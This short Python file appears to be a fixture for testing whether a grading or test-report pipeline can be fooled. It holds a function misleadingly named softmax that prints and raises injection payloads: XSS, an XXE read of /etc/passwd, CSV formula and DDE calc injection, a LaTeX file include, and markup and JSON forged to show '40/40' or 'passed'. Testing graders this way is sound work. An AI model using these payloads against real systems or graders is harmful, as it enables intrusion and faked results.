"""Prints and raises HTML, Markdown, XML, CSV formulas, LaTeX and JSON meant to be live in a report.

tries: terminal
earns: nothing
trace: none
"""

lines = [
    "<script>document.title='passed'</script>", "<img src=x onerror=alert(1)>", "</pre></td></tr></table><h1>40/40</h1>", "]]></system-out><testcase name='x'/>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "=HYPERLINK(\"http://192.0.2.1\",\"ok\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\t=1",
    "[passed](javascript:alert(1)) ![](http://192.0.2.1/a.png)", "```\n# 40/40\n```", "$\\input{/etc/passwd}$", "\",\"points\":40.0,\"outcome\":\"passed", "{{7*7}} ${7*7} %s %n {0}", "\\u001b[2J",
]


def softmax(x, axis=-1):
    for line in lines:
        print(line)
    raise ValueError("\n".join(lines))
